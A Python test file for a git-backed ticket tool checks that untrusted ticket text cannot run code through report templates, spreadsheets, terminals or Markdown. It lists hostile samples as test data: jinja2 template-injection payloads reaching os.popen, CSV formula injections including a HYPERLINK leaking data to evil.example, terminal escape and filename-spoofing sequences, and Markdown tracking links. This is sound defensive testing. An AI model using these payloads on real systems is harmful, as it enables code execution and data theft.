"""Ticket text and desk files are untrusted in every output.

- A desk's report template runs in jinja2's sandbox: it cannot run code.
- CSV cells that a spreadsheet would run as a formula get a leading quote (OWASP).
- Control characters never reach the terminal through tables and text views, and
  their visible form is unambiguous.
- Markdown reports keep their table and add no link, image or HTML from the data.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, example, given, settings

from gitdesk.actions import tickets as actions
from gitdesk.errors import GitdeskError
from gitdesk.store.write import Desk
from support.cli import Gitdesk
from support.textcheck import (
    FORMULA_START,
    TEXTS,
    assert_inert_markdown,
    decode_visible,
    may_refuse,
    safe_cells,
    table_rows,
    terminal_safe,
)

WHEN = "2026-05-06T07:08:09Z"
CLI = settings(max_examples=12, deadline=None, database=None,
               phases=(Phase.explicit, Phase.generate),
               suppress_health_check=[HealthCheck.function_scoped_fixture,
                                      HealthCheck.too_slow])


# --- report templates run in a sandbox ------------------------------------------------------

PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "{{ joiner.__init__.__globals__.os.system('touch MARKER') }}",
    "{{ namespace.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "{{ lipsum.__globals__['os'].popen('touch MARKER').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os"
    ".popen('touch MARKER').read() }}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['open']('MARKER', 'w').write('pwned') }}"
    "{% endif %}{% endfor %}",
    "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__ }}",
    "{{ '{0.__class__.__mro__}'.format(title) }}",
    "{% set x = sections.append(1) %}{{ sections }}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_committed_template_cannot_run_code(desk: Gitdesk, tmp_path: Path,
                                              payload: str) -> None:
    desk.open("incident", "-s", "Printer jam")
    marker = tmp_path / "pwned"
    template = desk.path / ".gitdesk" / "templates" / "report.html"
    template.parent.mkdir()
    template.write_text(f"<html><body>{payload.replace('MARKER', str(marker))}</body></html>\n")
    desk.git("add", ".gitdesk/templates/report.html")
    desk.git("commit", "-q", "-m", "A report template")
    run = desk("report", "summary", "--format", "html")
    assert not marker.exists(), "the template ran a command"
    assert run.exit_code == 1, (run.stdout, run.stderr)
    assert run.stdout == ""
    assert ".gitdesk/templates/report.html: refused" in run.stderr, run.stderr
    assert "internal error" not in run.stderr and "Traceback" not in run.stderr
    # the other formats do not use it
    assert desk("report", "summary", "--format", "text").exit_code == 0


def test_a_broken_template_is_named_with_its_line(desk: Gitdesk) -> None:
    template = desk.path / ".gitdesk" / "templates" / "report.html"
    template.parent.mkdir()
    template.write_text("<html>\n{% for x in sections %}\n</html>\n")
    desk.git("add", ".gitdesk/templates/report.html")
    desk.git("commit", "-q", "-m", "A broken template")
    run = desk("report", "summary", "--format", "html")
    assert run.exit_code == 1
    assert run.stderr.startswith("gitdesk: error: .gitdesk/templates/report.html:"), run.stderr
    assert "internal error" not in run.stderr
    template.write_text("<html>{{ 1 / 0 }}</html>\n")
    desk.git("commit", "-q", "-am", "Another")
    run = desk("report", "summary", "--format", "html")
    assert run.exit_code == 1 and "ZeroDivisionError" in run.stderr
    assert ".gitdesk/templates/report.html" in run.stderr


def test_the_change_calendar_page_is_rendered_in_the_sandbox_too(desk: Gitdesk) -> None:
    desk.open("change", "-s", "<script>x</script>", "--window", "2026-12-01T22:00:00Z/1h",
              "--ci", "web01")
    page = desk.ok("changes", "calendar", "--format", "html")
    assert "<script>x" not in page and "&lt;script&gt;x" in page


# --- CSV ------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "a;=1+1"]


def test_every_csv_neutralises_formulas(desk: Gitdesk) -> None:
    ids = [desk.open("incident", "-s", text, "--ci", text, "--field", "outage_minutes=-5",
                     "--field", f"vendor_case={text}") for text in FORMULAS]
    change = desk.open("change", "-s", "=2*3", "--window", "2026-12-01T22:00:00Z/1h",
                       "--cis", "=web01", "--risk", "low")
    desk.ok("note", ids[0], "-m", "=1+1")
    outputs = {
        "list": desk.ok("list", "--format", "csv", "--columns",
                        "id,summary,ci,fields.outage_minutes,vendor_case"),
        "show": desk.ok("show", ids[0], "--format", "csv"),
        "history": desk.ok("history", ids[0], "--format", "csv"),
        "ci": desk.ok("ci", FORMULAS[1], "--format", "csv"),
        "calendar": desk.ok("changes", "calendar", "--format", "csv"),
        "detail": desk.ok("report", "detail", "--field", "vendor_case", "--field",
                          "outage_minutes", "--format", "csv"),
        "past-due": desk.ok("report", "past-due", "--format", "csv"),
        "changes": desk.ok("report", "changes", "--format", "csv"),
        "weekly": desk.ok("report", "weekly", "--format", "csv"),
    }
    for text in outputs.values():
        safe_cells(text)
    listed = {row[0]: row for row in safe_cells(outputs["list"])[1:]}
    for tid, text in zip(ids, FORMULAS, strict=True):
        summary, ci, minutes, vendor = listed[tid][1:]
        expected = "'" + text if text.startswith(FORMULA_START) else text
        assert (summary, ci, vendor) == (expected, expected, expected)
        assert minutes == "-5"  # a negative number stays a number
    # a semicolon, where spreadsheets split cells in many locales, is inside quotes
    assert '"a;=1+1"' in outputs["list"]
    detail = safe_cells(outputs["detail"])
    assert [row[1] for row in detail if row[0] == change] == ["'=2*3"]
    assert "'=1+1" in outputs["history"]
    assert "'=2*3" in outputs["calendar"] and "'=web01" in outputs["calendar"]


# --- the terminal ---------------------------------------------------------------------------

HOSTILE = ("Disk full\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
           "\x9b31m\x7f\u202egnp.exe\nstatus: closed")


def test_list_show_and_history_show_control_characters_visibly(desk: Gitdesk) -> None:
    tid = desk.open("incident", "-s", HOSTILE, "-d", f"first\n{HOSTILE}\n\tindented",
                    "--ci", "web\x1b[0m01")
    desk.ok("note", tid, "-m", f"note\x1b[31m\n{HOSTILE}")
    shown = ("Disk full^[[2J^[]0;owned^G^[]8;;http://evil.example/^Gclick^[]8;;^G"
             "\\u009b31m^?\\u202egnp.exe⏎status: closed")
    assert decode_visible(shown) == HOSTILE
    outputs = {
        "list": desk.ok("list"),
        "list wide": desk.ok("list", "--columns", "id,summary,description,ci"),
        "show": desk.ok("show", tid),
        "show table": desk.ok("show", tid, "--format", "table"),
        "history": desk.ok("history", tid),
        "report": desk.ok("report", "detail"),
        "ci": desk.ok("ci", "web\x1b[0m01"),
    }
    for name, text in outputs.items():
        terminal_safe(text)
        assert "web^[[0m01" in text or name == "ci", name
    text = outputs["show"]
    assert text.splitlines()[0] == f"{tid}  {shown}"
    assert "\nDescription:\n  first\n  " + shown.split("⏎")[0] + \
        "\n  status: closed\n  ^Iindented\n" in text
    assert "status: closed" not in outputs["list"].replace("⏎status: closed", "")
    # a newline in a one-line field cannot start a line of its own
    for name in ("list", "show table", "history"):
        assert not any(line.startswith("status: closed") for line in outputs[name].splitlines())
    # CSV has no escapes: a cell shows control characters (tab and line breaks, which
    # quoted cells carry, stay), so a CSV printed on a terminal cannot drive it
    for args in (("list", "--format", "csv", "--columns", "id,summary,description,ci"),
                 ("show", tid, "--format", "csv"), ("history", tid, "--format", "csv"),
                 ("report", "detail", "--format", "csv")):
        text = desk.ok(*args)
        terminal_safe(text.replace("\r", "").replace("\t", ""))
        assert "web^[[0m01" in text and "^[]0;owned^G" in text, args
    # JSON is the exact data, with its own escapes
    data = json.loads(desk.ok("show", tid, "--format", "json"))
    assert data["summary"] == HOSTILE
    raw = desk.ok("show", tid, "--format", "json")
    terminal_safe(raw)
    assert "\\u202e" in raw and "\\u001b" in raw and "\\u009b" in raw


@pytest.fixture
def lib(desk: Gitdesk, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Gitdesk, Desk]]:
    monkeypatch.setenv("GIT_AUTHOR_DATE", WHEN)
    monkeypatch.setenv("GIT_COMMITTER_DATE", WHEN)
    yield desk, Desk.open(str(desk.path))


def opened(lib_desk: Desk, summary: str, description: str | None = None) -> str | None:
    try:
        written = actions.open_ticket(lib_desk, actions.OpenRequest(
            "incident", summary, description=description))
    except GitdeskError:
        assert may_refuse(summary) or may_refuse(description or "")
        return None
    return written.change.tickets[0]


def note_block(text: str) -> list[str]:
    """The lines of the only note: after "AT  test: ", then indented by six."""
    lines = text.split("\n")
    start = lines.index("Notes:") + 1
    first = lines[start].split(" test: ", 1)[1]
    rest = [line[6:] for line in lines[start + 1:] if line.startswith("      ")]
    return [first, *rest]


def description_block(text: str) -> list[str]:
    lines = text.split("\n")
    start = lines.index("Description:") + 1
    end = lines.index("", start)
    return [line[2:] for line in lines[start:end]]


@CLI
@given(summary=TEXTS, description=TEXTS, note=TEXTS)
@example(summary="a\x1b]8;;x\x07b", description="^[\\\n\r", note="\u202e\x85")
def test_arbitrary_text_never_reaches_the_terminal_as_control_characters(
        lib: tuple[Gitdesk, Desk], summary: str, description: str, note: str) -> None:
    desk, lib_desk = lib
    tid = opened(lib_desk, summary, description=description)
    if tid is None:
        return
    try:
        actions.add_note(lib_desk, tid, text=note)
    except GitdeskError:
        assert may_refuse(note)
        return
    shown = desk.ok("show", tid)
    for text in (shown, desk.ok("list"), desk.ok("history", tid),
                 desk.ok("show", tid, "--format", "table")):
        terminal_safe(text)
    # the visible form gives the text back: nothing can pass for something else
    assert decode_visible(shown.split("\n")[0].removeprefix(f"{tid}  ")) == summary
    assert "\n".join(decode_visible(line) for line in description_block(shown)) == description
    assert "\n".join(decode_visible(line) for line in note_block(shown)) == note


# --- Markdown -------------------------------------------------------------------------------

LINKS = "[click](http://evil.example) ![pixel](http://evil.example/p.png) <img src=x> " \
        "a|b `code` **bold** _em_ ~~s~~ # heading <http://evil.example> www.evil.example " \
        "[^1] &lt; $x$ line\r\nbreak\rand\nmore"


def test_markdown_reports_keep_their_table_and_add_no_links(desk: Gitdesk) -> None:
    tid = desk.open("incident", "-s", LINKS, "--ci", "a|b|c")
    markdown = desk.ok("report", "detail", "--format", "markdown")
    header = next(line for line in markdown.split("\n") if line.startswith("| id |"))
    rows = table_rows(markdown, header.count(" | ") + 1)
    (row,) = [r for r in rows if r[0] == tid]
    assert_inert_markdown(row)
    assert "<br>" in row[1]
    assert "](" not in markdown.replace("\\](", "").replace("\\]\\(", "")
    # past-due and SLA list summaries too
    for name in ("past-due", "sla", "weekly", "changes"):
        assert "[click](" not in desk.ok("report", name, "--format", "markdown"), name


@CLI
@given(summary=TEXTS)
def test_arbitrary_summaries_keep_the_markdown_table(lib: tuple[Gitdesk, Desk],
                                                     summary: str) -> None:
    desk, lib_desk = lib
    tid = opened(lib_desk, summary)
    if tid is None:
        return
    markdown = desk.ok("report", "detail", "--format", "markdown")
    header = next(line for line in markdown.split("\n") if line.startswith("| id |"))
    rows = table_rows(markdown, header.count(" | ") + 1)
    (row,) = [r for r in rows if r[0] == tid]
    assert_inert_markdown(row)
